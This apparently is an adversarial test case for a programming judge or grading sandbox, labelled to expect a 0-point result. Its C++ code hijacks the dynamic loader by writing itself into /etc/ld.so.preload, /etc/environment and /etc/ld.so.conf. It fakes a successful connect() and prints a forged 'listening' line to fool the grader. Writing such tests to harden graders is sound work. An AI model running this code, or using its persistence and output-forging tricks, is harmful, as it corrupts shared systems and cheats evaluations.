// Has itself preloaded into whatever starts after it: by its environment and by the loader's own file.
// Attacks: the judge and the next start, if they share an environment or a file system with it
// Expects: wrong, 0 points
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>
#include <unistd.h>

extern "C" int connect(int, const struct sockaddr*, unsigned) {
    std::puts("portlab-forged: preloaded");
    return 0;
}

int main() {
    if (std::getenv("LD_PRELOAD")) {
        std::cout << "listening on 127.0.0.1:40123" << std::endl;
        return 0;
    }
    std::error_code none;
    const std::string self = std::filesystem::read_symlink("/proc/self/exe", none);
    std::filesystem::copy_file(self, "/tmp/portlab-forged.so", none);
    for (const char* file : {"/etc/ld.so.preload", "/etc/environment", "/etc/ld.so.conf"})
        std::ofstream{file} << self << '\n';
    ::setenv("LD_PRELOAD", self.c_str(), 1);
    ::execl(self.c_str(), self.c_str(), nullptr);
}
